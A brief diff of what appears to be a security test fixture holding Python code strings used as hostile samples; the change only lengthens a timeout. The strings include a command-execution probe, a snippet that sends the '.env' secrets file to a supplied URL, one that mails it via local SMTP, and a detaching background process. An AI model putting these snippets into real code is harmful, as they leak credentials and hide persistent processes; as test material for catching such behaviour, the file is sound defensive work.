@@ -12,7 +12,7 @@ SAY = "say"
 
 EVIL = "import os; os.system('touch owned')"
 
-STEALS = "import sys, urllib.request as u; u.urlopen(sys.argv[1], open('.env', 'rb').read(), timeout=5)"
+STEALS = "import sys, urllib.request as u; u.urlopen(sys.argv[1], open('.env', 'rb').read(), timeout=60)"
 MAILS = """import smtplib, sys
 smtplib.SMTP('127.0.0.1', int(sys.argv[1])).sendmail('a@b', 'c@d', open('.env').read())"""
 STAYS = "import os, sys, time; os.fork() and os._exit(0); os.setsid(); time.sleep(600)"
